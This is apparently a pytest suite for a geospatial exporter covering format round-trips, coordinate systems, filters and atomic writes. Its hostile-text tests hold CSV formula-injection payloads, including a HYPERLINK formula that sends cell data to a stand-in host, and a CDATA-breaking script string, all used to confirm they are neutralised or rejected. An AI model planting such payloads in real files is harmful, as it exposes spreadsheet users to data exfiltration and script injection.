"""Tests for geo.export: every format round-trips, filters, errors, atomic replacement."""

from __future__ import annotations

import hashlib
import json
import re

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from shapely.geometry import LineString, MultiLineString, MultiPolygon, Point, Polygon

from geo import crs as gcrs
from geo import export

TIMELINE = [
    {
        "date": "2022-09-28",
        "precision": "day",
        "status": "construction_started",
        "modality": "actual",
        "doc_id": "doc-01",
        "quote": "平谷线全线开工",
    },
    {
        "date": "2025-12",
        "precision": "month",
        "status": "opened",
        "modality": "expected",
        "doc_id": "doc-02",
        "quote": '计划2025年底通车，"引号"与逗号,测试',
    },
]

# A clockwise exterior (as often found in Amap-derived data) with a counter-clockwise hole:
# RFC 7946 wants the opposite, so the exporter has to re-orient both rings.
CW_ZONE = Polygon(
    [(116.70, 39.90), (116.70, 40.00), (116.85, 40.00), (116.85, 39.90)],
    holes=[[(116.75, 39.93), (116.80, 39.93), (116.80, 39.96), (116.75, 39.96)]],
)


@pytest.fixture
def layers() -> dict[str, gpd.GeoDataFrame]:
    rail = gpd.GeoDataFrame(
        {
            "id": ["metro-line-22", "jingtang-intercity"],
            "name_zh": ["北京地铁22号线（平谷线）", "京唐城际铁路"],
            "name_en": ["Beijing Subway Line 22 (Pinggu Line)", "Beijing-Tangshan Intercity"],
            "kind": ["metro_line", "rail_line"],
            "aliases": [["22号线", "平谷线"], ["京唐城际"]],
            "admin": [[110105, 110112, 131082], [110112, 131082]],
            "parent": [None, None],
            "status": ["under_construction", "open"],
            "length_m": [12345.6, 98765.4],
            "mention_count": [3, 1],
            "timeline": [TIMELINE, []],
            "claims": [[{"value": 22, "unit": "条", "counted": "lines"}], []],
        },
        geometry=[
            LineString([(116.4612345678, 39.9087654321), (116.7012345, 39.9033333), (117.05, 40.14)]),
            MultiLineString([[(116.70, 39.90), (116.90, 39.95)], [(116.90, 39.95), (117.10, 39.70)]]),
        ],
        crs=gcrs.WGS84,
    )
    stations = gpd.GeoDataFrame(
        {
            "id": ["station-tiananmen-ref", "station-jt-yanjiao", "station-guomao"],
            "name_zh": ["天安门参考点", "燕郊站", "国贸站"],
            "name_en": ["Tiananmen reference", "Yanjiao", "Guomao"],
            "kind": ["station", "station", "station"],
            "aliases": [[], ["燕郊"], ["国贸"]],
            "admin": [[110101], [131082], [110105]],
            # a transfer station has a list of parents, others one id: mixed on purpose
            "parent": [None, "jingtang-intercity", ["metro-line-1", "metro-line-10"]],
            "status": [None, "open", "open"],
            "timeline": [[], [], TIMELINE[:1]],
        },
        geometry=[Point(116.404, 39.915), Point(116.82, 39.96), Point(116.4613, 39.9087)],
        crs=gcrs.WGS84,
    )
    zones = gpd.GeoDataFrame(
        {
            "id": ["zone-tongbei-demo", "zone-yanjiao-hitech"],
            "name_zh": ["通州区与北三县一体化高质量发展示范区", "燕郊高新区"],
            "name_en": ["Tongzhou-North Three Counties demonstration zone", "Yanjiao High-tech Zone"],
            "kind": ["zone", "zone"],
            "aliases": [["通北示范区"], []],
            "admin": [[110112, 131082, 131028, 131024], [131082]],
            "parent": [None, None],
            "status": ["planned", "unknown"],
            "area_km2": [906.0, 108.0],
            "timeline": [[], []],
        },
        geometry=[
            CW_ZONE,
            MultiPolygon(
                [
                    Polygon([(116.80, 39.92), (116.90, 39.92), (116.90, 39.99), (116.80, 39.99)]),
                    Polygon([(117.50, 40.50), (117.50, 40.60), (117.60, 40.60)]),  # clockwise part
                ]
            ),
        ],
        crs=gcrs.WGS84,
    )
    return {"rail": rail, "stations": stations, "zones": zones}


def _same_geom(a, b, tol):
    return a.geom_type == b.geom_type and shapely.hausdorff_distance(a, b) <= tol


def _as_list(value):
    if isinstance(value, float) and np.isnan(value):
        return None
    return value


def _assert_round_trip(original: gpd.GeoDataFrame, back: gpd.GeoDataFrame, *, tol: float):
    assert len(back) == len(original)
    assert list(back["id"]) == list(original["id"])
    for a, b in zip(original.geometry, back.geometry, strict=True):
        assert _same_geom(a, b, tol), (a.wkt, b.wkt)
    for col in ("name_zh", "name_en", "kind"):
        assert list(back[col]) == list(original[col])
    for col in ("aliases", "admin", "timeline"):
        assert [list(v) for v in back[col]] == [list(v) for v in original[col]], col
    assert [_as_list(v) for v in back["parent"]] == list(original["parent"])
    got_status = [None if pd.isna(v) else v for v in back["status"]]
    assert got_status == [None if pd.isna(v) else v for v in original["status"]]


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_round_trip_every_format(layers, tmp_path, fmt):
    written = export.export_layers(layers, tmp_path / "out", fmt=fmt)
    assert all(p.exists() for p in written)
    if fmt in ("gpkg", "kml"):
        assert written == [tmp_path / "out" / f"layers.{fmt}"]
    else:
        ext = ".geojson" if fmt == "geojson" else f".{fmt}"
        assert written == [tmp_path / "out" / f"{n}{ext}" for n in layers]
    back = export.read_back(tmp_path / "out")
    assert set(back) == set(layers)
    tol = 2e-7 if fmt in ("geojson", "csv") else 1e-9  # 7-decimal rounding vs binary formats
    for name, original in layers.items():
        got = back[name]
        assert gpd.GeoSeries(got.geometry).crs == gcrs.WGS84
        _assert_round_trip(original, got, tol=tol)
    # numbers and nested dicts other than timelines survive too
    assert back["rail"]["claims"].iloc[0] == [{"value": 22, "unit": "条", "counted": "lines"}]
    assert back["rail"]["length_m"].tolist() == pytest.approx([12345.6, 98765.4])
    # polygons come back counter-clockwise with clockwise holes, whatever the input winding
    zone = back["zones"].geometry.iloc[0]
    assert zone.exterior.is_ccw
    assert not zone.interiors[0].is_ccw
    assert all(p.exterior.is_ccw for p in back["zones"].geometry.iloc[1].geoms)


def test_input_layers_not_modified(layers, tmp_path):
    before = {k: v.copy() for k, v in layers.items()}
    export.export_layers(layers, tmp_path / "o", fmt="gpkg", status=["open"], crs="EPSG:4548")
    export.export_layers(layers, tmp_path / "o", fmt="geojson", gcj02=True)
    for name, gdf in layers.items():
        pd.testing.assert_frame_equal(
            pd.DataFrame(gdf.drop(columns="geometry")), pd.DataFrame(before[name].drop(columns="geometry"))
        )
        assert gdf.geometry.equals(before[name].geometry)
    assert not layers["zones"].geometry.iloc[0].exterior.is_ccw


def test_geojson_follows_rfc7946(layers, tmp_path):
    (path,) = export.export_layers(layers, tmp_path / "rail.geojson", fmt="geojson", layers_wanted=["rail"])
    assert path == tmp_path / "rail.geojson"
    text = path.read_text(encoding="utf-8")
    doc = json.loads(text)
    assert "crs" not in doc
    assert doc["type"] == "FeatureCollection"
    assert doc["name"] == "rail"
    assert "北京地铁22号线" in text  # UTF-8, not \u escapes
    feat = doc["features"][0]
    assert feat["id"] == "metro-line-22"
    assert feat["properties"]["id"] == "metro-line-22"
    assert feat["geometry"]["coordinates"][0] == [116.4612346, 39.9087654]  # rounded to 7 decimals
    assert feat["properties"]["timeline"] == TIMELINE  # nested stays native JSON
    for number in re.findall(r"-?\d+\.(\d+)", json.dumps([f["geometry"] for f in doc["features"]])):
        assert len(number) <= 7
    (zpath,) = export.export_layers(layers, tmp_path / "zones.json", fmt="geojson", layers_wanted=["zones"])
    zdoc = json.loads(zpath.read_text(encoding="utf-8"))
    rings = zdoc["features"][0]["geometry"]["coordinates"]
    assert shapely.LinearRing(rings[0]).is_ccw
    assert not shapely.LinearRing(rings[1]).is_ccw
    # GeoJSON written with an explicit WGS84 CRS (any spelling) is allowed
    export.export_layers(layers, tmp_path / "z2.geojson", fmt="geojson", layers_wanted=["zones"], crs="OGC:CRS84")


def test_output_is_deterministic(layers, tmp_path):
    for fmt in export.FORMATS:
        first = export.export_layers(layers, tmp_path / "a" / fmt, fmt=fmt)
        second = export.export_layers(layers, tmp_path / "b" / fmt, fmt=fmt)
        digest = [hashlib.sha256(p.read_bytes()).hexdigest() for p in first]
        assert digest == [hashlib.sha256(p.read_bytes()).hexdigest() for p in second], fmt


@pytest.mark.parametrize("fmt", ["gpkg", "parquet", "csv"])
def test_reprojection_to_metric_crs(layers, tmp_path, fmt):
    export.export_layers(layers, tmp_path / "m", fmt=fmt, crs=gcrs.METRIC_CRS)
    back = export.read_back(tmp_path / "m", crs=gcrs.METRIC_CRS)
    for name, original in layers.items():
        got = back[name]
        assert got.crs.to_epsg() == 4548
        expected = gcrs.to_metric(original)
        tol = 2e-3 if fmt == "csv" else 1e-6  # CSV keeps millimetres
        for a, b in zip(expected.geometry, got.geometry, strict=True):
            assert _same_geom(a, b, tol)
    if fmt == "csv":
        header = (tmp_path / "m" / "stations.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
        assert header[-3:] == ["x", "y", "wkt"]


def test_csv_layout(layers, tmp_path):
    (path,) = export.export_layers(layers, tmp_path / "stations.csv", fmt="csv", layers_wanted=["stations"])
    df = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(df.columns[-3:]) == ["lon", "lat", "wkt"]
    assert df.loc[1, "lon"] == "116.82"
    assert df.loc[1, "lat"] == "39.96"
    assert df.loc[1, "wkt"] == "POINT (116.82 39.96)"
    assert json.loads(df.loc[2, "parent"]) == ["metro-line-1", "metro-line-10"]
    assert json.loads(df.loc[1, "parent"]) == "jingtang-intercity"  # whole column is JSON
    (rpath,) = export.export_layers(layers, tmp_path / "r.csv", fmt="csv", layers_wanted=["rail"])
    rdf = pd.read_csv(rpath, dtype=str, keep_default_na=False)
    assert (rdf["lon"] == "").all()
    assert (rdf["lat"] == "").all()
    assert json.loads(rdf.loc[0, "timeline"]) == TIMELINE


def test_gcj02_output(layers, tmp_path):
    (path,) = export.export_layers(
        layers, tmp_path / "stations.geojson", fmt="geojson", layers_wanted=["stations"], gcj02=True
    )
    assert path.name == "stations.gcj02.geojson"
    assert not (tmp_path / "stations.geojson").exists()
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["coordinate_system"] == "GCJ-02"
    assert "crs" not in doc
    # published pair (wandergis/coordtransform test/app.js): WGS84 (116.404, 39.915) ->
    # GCJ-02 (116.41024449916938, 39.91640428150164)
    lon, lat = doc["features"][0]["geometry"]["coordinates"]
    assert lon == pytest.approx(116.41024449916938, abs=1e-7)
    assert lat == pytest.approx(39.91640428150164, abs=1e-7)
    back = export.read_back(path)["stations"]
    assert back.crs is None
    assert back.attrs["coordinate_system"] == "GCJ-02"
    restored = gcrs.convert_geometry(back, src="gcj02", dst="wgs84")
    for a, b in zip(layers["stations"].geometry, restored.geometry, strict=True):
        assert a.distance(b) < 2e-7
    # several layers into a directory: every file gets the infix; CSV too
    paths = export.export_layers(layers, tmp_path / "dir", fmt="geojson", gcj02=True)
    assert [p.name for p in paths] == ["rail.gcj02.geojson", "stations.gcj02.geojson", "zones.gcj02.geojson"]
    (cpath,) = export.export_layers(layers, tmp_path / "st.csv", fmt="csv", layers_wanted=["stations"], gcj02=True)
    assert cpath.name == "st.gcj02.csv"
    df = pd.read_csv(cpath)
    assert df.loc[0, "lon"] == pytest.approx(116.41024449916938, abs=1e-7)
    assert export.read_back(cpath)["st"].crs is None


def test_filters(layers, tmp_path):
    def ids(**kw):
        export.export_layers(layers, tmp_path / "f", fmt="geojson", **kw)
        back = export.read_back(tmp_path / "f")
        return {name: list(gdf["id"]) if len(gdf) else [] for name, gdf in back.items()}

    got = ids(status=["open"])
    assert got == {"rail": ["jingtang-intercity"], "stations": ["station-jt-yanjiao", "station-guomao"], "zones": []}
    got = ids(status=["unknown"], layers_wanted=["stations", "zones"])  # null status counts as unknown
    assert got["stations"] == ["station-tiananmen-ref"]
    assert got["zones"] == ["zone-yanjiao-hitech"]
    # bbox around Yanjiao: the station, Line 22 and both zones intersect; Guomao and the
    # intercity line (lat 39.94 at the box's east edge) do not
    got = ids(bbox=(116.78, 39.945, 116.86, 39.98))
    assert got["stations"] == ["station-jt-yanjiao"]
    assert got["rail"] == ["metro-line-22"]
    assert set(got["zones"]) == {"zone-tongbei-demo", "zone-yanjiao-hitech"}
    # a feature only in the hole of zone-tongbei-demo does not intersect it
    got = ids(within=Point(116.775, 39.945).buffer(0.001), layers_wanted=["zones"])
    assert got["zones"] == []
    got = ids(within=shapely.box(117.45, 40.45, 117.65, 40.65))
    assert got == {"rail": [], "stations": [], "zones": ["zone-yanjiao-hitech"]}
    got = ids(status=["open"], bbox=(116.3, 39.8, 116.5, 40.0))
    assert got["stations"] == ["station-guomao"]
    assert got["rail"] == []


def test_empty_layers_export_in_every_format(layers, tmp_path):
    for fmt in export.FORMATS:
        export.export_layers(layers, tmp_path / fmt, fmt=fmt, status=["suspended"])
        back = export.read_back(tmp_path / fmt)
        assert set(back) == set(layers), fmt
        assert all(len(g) == 0 for g in back.values()), fmt


@pytest.mark.parametrize(
    ("kwargs", "match"),
    [
        (
            {"fmt": "geojson", "layers_wanted": ["railways"]},
            r"unknown layer.*'railways'.*valid layers: rail, stations, zones",
        ),
        (
            {"fmt": "geojson", "status": ["opened"]},
            r"unknown status.*'opened'.*planned, under_construction, open, suspended, unknown",
        ),
        ({"fmt": "gpkg", "crs": "EPSG:999999"}, r"invalid CRS 'EPSG:999999'"),
        ({"fmt": "parquet", "crs": "not a crs"}, r"invalid CRS 'not a crs'"),
        ({"fmt": "geojson", "crs": "EPSG:4548"}, r"RFC 7946"),
        ({"fmt": "kml", "crs": "EPSG:3857"}, r"KML is WGS84"),
        ({"fmt": "shp"}, r"unknown format 'shp'.*geojson, gpkg, parquet, csv, kml"),
        ({"fmt": "gpkg", "gcj02": True}, r"gcj02 output is only supported"),
        ({"fmt": "csv", "gcj02": True, "crs": "EPSG:4548"}, r"non-WGS84 crs"),
        ({"fmt": "geojson", "bbox": (117.0, 39.0, 116.0, 40.0)}, r"bbox must be"),
        ({"fmt": "geojson", "bbox": (116.0, 39.0, 117.0)}, r"bbox must be four numbers"),
    ],
)
def test_errors(layers, tmp_path, kwargs, match):
    with pytest.raises(ValueError, match=match):
        export.export_layers(layers, tmp_path / "out", **kwargs)
    assert not (tmp_path / "out").exists()


def test_more_errors(layers, tmp_path):
    with pytest.raises(ValueError, match="pass a directory"):
        export.export_layers(layers, tmp_path / "all.geojson", fmt="geojson")
    with pytest.raises(TypeError, match="shapely geometry"):
        export.export_layers(layers, tmp_path / "o", fmt="geojson", within=(116, 39, 117, 40))
    with pytest.raises(ValueError, match="no layers"):
        export.export_layers({}, tmp_path / "o", fmt="geojson")
    with pytest.raises(ValueError, match="cannot tell the format"):
        export.read_back(tmp_path / "x.txt")


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_failed_validation_leaves_existing_files_untouched(layers, tmp_path, monkeypatch, fmt):
    out = tmp_path / "out"
    first = export.export_layers(layers, out, fmt=fmt)
    before = {p: p.read_bytes() for p in first}
    calls = []

    def failing_validator(path, **kw):
        calls.append(path)
        if len(calls) == len(first):  # the last file fails: nothing at all may be replaced
            raise export.ExportValidationError("simulated validation failure")

    monkeypatch.setattr(export, "_validate_output", failing_validator)
    with pytest.raises(export.ExportValidationError, match="simulated"):
        export.export_layers(layers, out, fmt=fmt, status=["open"])
    assert {p: p.read_bytes() for p in first} == before
    assert sorted(out.iterdir()) == sorted(first)  # temporary files cleaned up
    assert all(c.name.startswith(".") and ".tmp" in c.name for c in calls)


def test_real_validator_rejects_rfc7946_violation(layers, tmp_path, monkeypatch):
    target = tmp_path / "zones.geojson"
    target.write_text("old", encoding="utf-8")
    real = export._geojson_text

    def with_crs_member(name, gdf, *, gcj02):
        doc = json.loads(real(name, gdf, gcj02=gcj02))
        doc["crs"] = {"type": "name", "properties": {"name": "EPSG:4326"}}
        return json.dumps(doc)

    monkeypatch.setattr(export, "_geojson_text", with_crs_member)
    with pytest.raises(export.ExportValidationError, match="crs"):
        export.export_layers(layers, target, fmt="geojson", layers_wanted=["zones"])
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["zones.geojson"]


def test_kml_layout(layers, tmp_path):
    (path,) = export.export_layers(layers, tmp_path / "atlas.kml", fmt="kml")
    text = path.read_text(encoding="utf-8")
    assert '<Placemark id="metro-line-22">' in text
    assert "<name>燕郊站</name>" in text
    back = export.read_back(path)
    assert list(back) == ["rail", "stations", "zones"]
    assert back["stations"]["name"].tolist() == layers["stations"]["name_zh"].tolist()


# --------------------------------------------------------------------------- hostile text, full disks

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "@SUM(A1:A9)", "+1+2", "-3+4", "\tTAB", "\rCR", "'已加引号"]


def test_csv_cells_that_look_like_formulas_are_neutralised_and_round_trip(layers, tmp_path):
    rail = layers["rail"].iloc[:1].copy()
    stations = pd.concat([layers["stations"]] * 3, ignore_index=True).iloc[: len(FORMULAS)].copy()
    stations["id"] = [f"station-f{i}" for i in range(len(FORMULAS))]
    stations["name_zh"] = FORMULAS
    stations["timeline"] = [[{"quote": f}] for f in FORMULAS]
    (path,) = export.export_layers(
        {"stations": stations, "rail": rail}, tmp_path / "stations.csv", fmt="csv", layers_wanted=["stations"]
    )
    import csv

    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name_zh"] for r in rows] == ["'" + f for f in FORMULAS]
    for r in rows:  # no cell a spreadsheet would run: text starts with a letter, quote or bracket
        for key, cell in r.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (key, cell)
    back = export.read_back(path)["stations"]
    assert back["name_zh"].tolist() == FORMULAS
    assert [t[0]["quote"] for t in back["timeline"]] == FORMULAS


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_kml_keeps_a_quote_holding_the_cdata_terminator(layers, tmp_path):
    quote = "工程 ]]><script>alert(1)</script> 完成"
    rail = layers["rail"].copy()
    rail["timeline"] = [[{**TIMELINE[0], "quote": quote}], []]
    (path,) = export.export_layers({"rail": rail}, tmp_path / "r.kml", fmt="kml")
    import xml.etree.ElementTree as ET

    ET.parse(path)  # well-formed XML
    back = export.read_back(path)["rail"]
    assert back["timeline"].iloc[0][0]["quote"] == quote


def test_kml_refuses_plain_text_holding_the_cdata_terminator_cleanly(layers, tmp_path):
    rail = layers["rail"].copy()
    rail["name_en"] = ["Line ]]> 22", "ok"]
    target = tmp_path / "r.kml"
    with pytest.raises(export.ExportError, match=r"layer rail, feature metro-line-22, column name_en: .*'\]\]>'"):
        export.export_layers({"rail": rail}, target, fmt="kml")
    assert list(tmp_path.iterdir()) == []


_FULL_DISK = """
import resource, signal, sys
import geopandas as gpd
from shapely.geometry import Point
from geo import export
from geo.errors import GeoError
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write over the limit fails with EFBIG instead
n = 3000
gdf = gpd.GeoDataFrame({"id": [f"station-{i}" for i in range(n)], "name_zh": ["燕郊站" * 20] * n},
                       geometry=[Point(116.8, 39.9)] * n, crs="EPSG:4326")
resource.setrlimit(resource.RLIMIT_FSIZE, (60_000, 60_000))  # the "disk" holds 60 kB per file
try:
    export.export_layers({"stations": gdf}, sys.argv[2], fmt=sys.argv[1])
except GeoError as exc:
    print(type(exc).__name__, exc)
    sys.exit(3)
"""


@pytest.mark.parametrize(
    ("fmt", "name"), [("gpkg", "l.gpkg"), ("kml", "l.kml"), ("csv", "stations.csv"), ("geojson", "stations.geojson")]
)
def test_a_full_disk_gives_a_clean_error_and_keeps_the_old_file(layers, tmp_path, fmt, name):
    import subprocess
    import sys

    target = tmp_path / name
    target.write_bytes(b"the previous export")
    r = subprocess.run([sys.executable, "-c", _FULL_DISK, fmt, str(target)], capture_output=True, text=True)
    assert r.returncode == 3, r.stderr
    assert r.stdout.startswith("ExportError could not write " + str(target))
    assert "nothing was replaced" in r.stdout
    assert "Traceback" not in r.stderr
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in tmp_path.iterdir()] == [name]  # no temporary or journal file left
